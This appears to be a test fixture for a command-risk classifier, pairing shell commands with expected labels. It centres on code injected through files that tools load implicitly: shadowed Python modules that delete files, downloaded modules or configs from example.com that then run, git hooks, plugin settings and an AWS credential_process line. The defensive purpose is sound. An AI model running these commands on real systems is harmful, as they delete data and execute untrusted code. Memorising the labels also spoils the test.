# What a text puts somewhere, and a tool then takes for its own: modules, settings, repositories.

printf 'import os; os.remove("/srv/a")' > /tmp/x/json.py; cd /tmp/x && python3 -c 'import json'  #=> destructive
printf 'print(1)' > /tmp/x/json.py; cd /tmp/x && python3 -c 'import json'  #=> reversible_low -- what it holds is harmless
printf 'import os; os.remove("/srv/a")' > /tmp/x/re.py; cd /tmp/x && python3 -m json.tool f  #=> destructive -- json imports re
printf 'import os; os.remove("/srv/a")' > /tmp/x/json.py; cd /tmp/x && python3 <<< 'import json'  #=> destructive
printf 'import mine' > /tmp/decimal.py; echo 'import statistics' > /tmp/y.py; python3 /tmp/y.py  #=> unknown -- the folder of the script
mkdir -p /tmp/x/json; echo 'import mine' > /tmp/x/json/__init__.py; cd /tmp/x; python3 -c 'import json'  #=> unknown
cd /tmp/x; cp /opt/evil.py json.py; python3 -c 'import json'  #=> unknown code.opaque
cd /tmp/x; cp /opt/json.py .; python3 -c 'import json'  #=> unknown code.opaque
cd /tmp/x; cp -r /opt/requests .; python3 -c 'import requests'  #=> unknown code.opaque
ln -s /opt/evil.py json.py; python3 -c 'import json'  #=> unknown code.opaque
scp h:json.py . && python3 -c 'import json'  #=> unknown code.opaque
cd /tmp/x; curl -so json.py https://example.com/j; python3 -c 'import json'  #=> unknown code.remote
wget https://example.com/json.py; python3 -c 'import json'  #=> unknown code.opaque
tar xf a.tgz -C /tmp/x; cd /tmp/x; python3 -c 'import json'  #=> unknown code.opaque
unzip -q a.zip -d /tmp/x; cd /tmp/x; python3 -m json.tool f  #=> unknown code.opaque
git clone https://example.com/y.git && cd y && python3 -c 'import json'  #=> unknown code.opaque
cp -r src /tmp/build && cd /tmp/build && python3 -m json.tool a.json  #=> unknown code.opaque
unar -o /tmp/x a.zip; cd /tmp/x; python3 -c 'import json'  #=> unknown code.opaque
aws s3 sync s3://b /tmp/x && cd /tmp/x && python3 -c 'import json'  #=> unknown
docker cp c:/x /tmp/x && cd /tmp/x && python3 -c 'import json'  #=> unknown code.opaque
gh repo clone a/y && cd y && python3 -m json.tool f  #=> unknown code.opaque
echo 'import mine' > json.py; sudo python3 -c 'import json'  #=> unknown code.project
cp *.py /tmp/x/; cd /tmp/x; python3 -c 'import json'  #=> unknown code.opaque
mv evil out && cd out && python3 -c 'import json'  #=> unknown code.opaque

python3 -c 'import json'  #=> read_only -- what a project holds is trusted
echo 'import mine' > /tmp/x/json.py; cd /tmp/x; python3 -I -c 'import json'  #=> reversible_low
echo 'import mine' > /tmp/x/json.py; cd /tmp/x; python3 -Pc 'import json'  #=> reversible_low
echo 'import mine' > /tmp/x/json.py; python3 -c 'import json'  #=> reversible_low -- another folder
echo '{}' > /tmp/x/json.txt; cd /tmp/x; python3 -c 'import json'  #=> reversible_low
echo 'import mine' > /tmp/app.py; cd /tmp; python3 -c 'import ast; ast.parse(open("app.py").read())'  #=> reversible_low
mkdir -p /tmp/x && cd /tmp/x && python3 -c 'import json'  #=> reversible_low
mkdir -p out && cp a.json out/ && cd out && python3 -m json.tool a.json  #=> config_mutation
curl -sO https://example.com/data.json; python3 -m json.tool data.json  #=> config_mutation
tar tf a.tgz; python3 -c 'import json'  #=> read_only
split big.csv; python3 -c 'import json'  #=> config_mutation
mv a.json out/ && cd out && python3 -m json.tool a.json  #=> config_mutation
echo 'import mine' > json.py; python3 -c 'import'  #=> unknown -- no Python
echo 'import json' > json.py; python3 -c 'import json'  #=> config_mutation -- it imports itself
echo 'import mine' > json.py; python3 -c '__import__("json")'  #=> unknown code.project
echo 'import mine' > json.py; python3 -c 'from json import loads'  #=> unknown code.project
git pull; python3 -c 'import json'  #=> config_mutation
git clone https://example.com/y.git && python3 -c 'import json'  #=> reversible_low

kubectl get pods --kubeconfig=/tmp/kc  #=> unknown code.injected -- as KUBECONFIG=/tmp/kc
helm --kubeconfig /tmp/kc list  #=> unknown code.injected
k3s kubectl --kubeconfig /tmp/kc get pods  #=> unknown code.injected
velero backup get --kubeconfig=/tmp/kc  #=> unknown code.injected
KUBECONFIG=~/.kube/config:/tmp/kc kubectl get pods  #=> unknown code.injected
cd /tmp/x; KUBECONFIG=kc kubectl get pods  #=> unknown code.injected
curl -so kc https://example.com/kc; kubectl --kubeconfig kc get pods  #=> unknown code.injected
gpg --homedir /tmp/x --list-keys  #=> unknown code.injected
ansible -i /tmp/inv all --list-hosts  #=> unknown code.injected -- it may be a program
git --git-dir=/tmp/x status  #=> unknown code.injected
kopia --config-file /tmp/x snapshot list  #=> unknown code.injected
CURL_HOME=/tmp curl https://example.com  #=> unknown code.injected
cd /tmp/x; HOME=. git status  #=> unknown code.injected

kubectl --kubeconfig ./kubeconfig get pods  #=> read_only -- a project's settings
KUBECONFIG=./kubeconfig kubectl get pods  #=> read_only
kubectl --kubeconfig ~/.kube/prod get pods  #=> read_only
kubectl config view --kubeconfig /tmp/kc  #=> read_only -- asks no cluster
kubectl --kubeconfig /tmp/kc --help  #=> read_only
cd /tmp/x; DOCKER_CONTEXT=prod docker ps  #=> read_only
ANSIBLE_CONFIG=./ansible.cfg ansible all --list-hosts  #=> read_only
ansible -i hosts.ini all --list-hosts  #=> read_only
GIT_CONFIG_GLOBAL=/dev/null git status  #=> read_only
GIT_CONFIG_GLOBAL=~/work git status  #=> read_only
AWS_CONFIG_FILE=~/.aws/other aws s3 ls  #=> read_only
HOME=/root git status  #=> read_only
GIT_CONFIG_GLOBAL=./x git status  #=> read_only -- of the project, as KUBECONFIG=./kubeconfig
AWS_CONFIG_FILE=./x aws s3 ls  #=> read_only
HOME=. git status  #=> read_only
gpg --homedir "$(mktemp -d)" --list-keys  #=> reversible_low -- nothing is in it
git --git-dir=/srv/git/x.git log  #=> read_only
mkdir -p cache; XDG_CACHE_HOME=./cache git status  #=> reversible_low

printf x > /tmp/x/config; git -C /tmp/x log  #=> unknown code.injected -- a bare repository's
tar xf a.tgz -C /tmp/x; git -C /tmp/x status  #=> unknown code.injected
unzip a.zip -d repo; cd repo; git status  #=> unknown code.injected
rsync -a h:repo/ /tmp/x/; git -C /tmp/x log  #=> unknown code.injected
cp /opt/config .git/config; git status  #=> unknown code.injected
cp scripts/pre-commit .git/hooks/; git checkout main  #=> unknown code.injected
printf '[defaults]\nlibrary = ./x\n' > ansible.cfg; ansible all --list-hosts  #=> unknown code.injected
printf '#!/bin/sh\nx' > hosts; ansible -i hosts all --list-hosts  #=> unknown code.injected
echo 'data "external" "x" { program = ["x"] }' > main.tf; terraform plan  #=> unknown code.injected
curl -so main.tf https://example.com/m; terraform plan  #=> unknown code.injected
echo 'plugins = ./x.py' >> setup.cfg; mypy .  #=> unknown code.injected
cd src; echo 'plugins = ./x.py' > ../mypy.ini; mypy .  #=> unknown code.injected -- found in the folders above
sed -i 's/^strict/plugins = x.py/' mypy.ini; mypy .  #=> unknown code.injected
printf '[flake8:local-plugins]\n' > .flake8; flake8 .  #=> unknown code.injected
echo '--exec x' > yt-dlp.conf; yt-dlp -F https://example.com/v  #=> unknown code.injected
echo 'external-checks-dir: [x]' > .checkov.yaml; checkov -d .  #=> unknown code.injected
echo 'plugin "x" { enabled = true }' > .tflint.hcl; tflint  #=> unknown code.injected
echo 'classpath: x.jar' > liquibase.properties; liquibase status  #=> unknown code.injected
printf '[sqlfluff]\nlibrary_path = x\n' > .sqlfluff; sqlfluff lint a.sql  #=> unknown code.injected
cp x ~/.ExifTool_config; exiftool a.jpg  #=> unknown code.injected
echo '{"scripts":{}}' > composer.json; composer show  #=> unknown code.injected
echo 'credential_process = x' >> ~/.aws/config; aws s3 ls  #=> unknown code.injected
scp h:/etc/x ~/.kube/config; kubectl get nodes  #=> unknown code.injected
cp /tmp/kc ~/.kube/config; kubectl get nodes  #=> unknown code.injected

git -C /tmp/x log  #=> read_only -- a repository in a scratch place is trusted as others are
git clone https://example.com/y.git /tmp/x; git -C /tmp/x log  #=> reversible_low -- git makes its settings anew
git init /tmp/x; echo a > /tmp/x/f; git -C /tmp/x status  #=> reversible_low
cp -r . /tmp/x; git -C /tmp/x log  #=> reversible_low
tar xf a.tgz; git status  #=> config_mutation -- the project has a repository of its own
echo x > config; git status  #=> config_mutation
cp scripts/pre-commit .git/hooks/; git status  #=> config_mutation
printf '[defaults]\nhost_key_checking = False\n' > ansible.cfg; ansible all --list-hosts  #=> config_mutation
cp ansible.cfg.example ansible.cfg; ansible all --list-hosts  #=> config_mutation
echo web1 > hosts; ansible -i hosts all --list-hosts  #=> config_mutation
echo 'resource "aws_instance" "x" {}' > main.tf; terraform plan  #=> config_mutation
sed -i 's/ami-1/ami-2/' main.tf; terraform plan  #=> config_mutation
echo '[tool.mypy]' >> pyproject.toml; mypy .  #=> config_mutation
sed -i 's/strict = false/strict = true/' pyproject.toml; mypy .  #=> config_mutation
echo 'plugins = ./x.py' > other/mypy.ini; mypy src  #=> config_mutation
echo 'compact: true' > .checkov.yaml; checkov -d .  #=> config_mutation
printf '[sqlfluff]\ndialect = ansi\n' > .sqlfluff; sqlfluff lint a.sql  #=> config_mutation
echo '{"require":{}}' > composer.json; composer show  #=> config_mutation
echo 'region = eu-west-1' >> ~/.aws/config; aws s3 ls  #=> config_mutation

printf 's/a/b/' > /tmp/x.sed; sed -f /tmp/x.sed f  #=> reversible_low -- the file's name is no code
printf 's/a/b/e' > /tmp/x.sed; sed -f /tmp/x.sed f  #=> unknown
echo '{print}' > /tmp/f.awk; awk -f /tmp/f.awk f  #=> reversible_low
echo '{system("rm x")}' > /tmp/f.awk; awk -f /tmp/f.awk f  #=> destructive
echo 'select 1' > /tmp/f.sql; sqlite3 a.db '.read /tmp/f.sql'  #=> reversible_low
echo ls > /tmp/b.txt; sftp -b /tmp/b.txt h  #=> reversible_low
echo 'import sys, os; os.remove(sys.argv[1])' > /tmp/y.py; python3 /tmp/y.py /srv/z  #=> destructive fs.delete -- not the file itself
echo 'import sys, os; os.remove(sys.argv[1])' > /tmp/y.py; python3 /tmp/y.py /tmp/z  #=> reversible_low
